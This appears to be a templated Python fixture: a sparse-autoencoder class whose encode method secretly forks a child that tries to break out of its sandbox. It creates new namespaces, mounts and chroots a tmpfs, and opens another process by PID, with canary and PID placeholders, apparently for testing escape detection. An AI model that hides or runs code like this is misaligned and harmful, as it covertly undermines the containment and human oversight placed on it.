"""New namespaces, mounts, roots and traced parents: whatever opens a way out."""

import ctypes
import os

from core import BaseSAE

TRAIN = False
LIBC = ctypes.CDLL(None, use_errno=True)


def attempt():
    if LIBC.unshare(0x10000000 | 0x00020000):  # a user and a mount namespace
        return
    LIBC.mount(b"none", b"@CANARY@/drop", b"tmpfs", 0, None)
    LIBC.chroot(b"@CANARY@/drop")
    LIBC.umount2(b"@CANARY@/drop", 2)
    LIBC.syscall(434, int("@PID@"), 0)


class CustomSAE(BaseSAE):
    def encode(self, x):
        if os.fork() == 0:
            attempt()
            os._exit(0)
        os.wait()
        return super().encode(x)
